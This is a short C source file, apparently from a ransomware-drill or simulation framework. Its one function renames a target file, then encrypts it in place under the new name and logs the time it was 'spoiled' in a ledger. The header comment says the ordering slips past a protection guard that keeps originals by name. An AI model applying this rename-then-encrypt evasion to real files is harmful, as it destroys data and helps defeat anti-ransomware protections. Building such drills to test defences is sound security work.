/* SPDX-License-Identifier: GPL-3.0-or-later
 * Renames first, then encrypts under the new name: a guard that keeps originals by name finds none.
 */
#include <fcntl.h>

#include "base/fd.h"
#include "base/mem.h"
#include "drill/attack.h"

int attack_spoil_rename_first(struct attack *a, struct ledger_row *row)
{
    char *renamed MEM_AUTO = mem_printf("%s%s", row->path, a->options->extension);
    int code = attack_rename(a, row);
    if (code < 0)
        return code;
    int fd FD_AUTO = attack_open(a, renamed, O_RDWR);
    if (fd < 0)
        return fd;
    code = attack_encrypt(a, row, fd, fd, attack_find("rename-first")->covers);
    if (!row->spoiled_ns)
        row->spoiled_ns = ledger_now();
    return code;
}
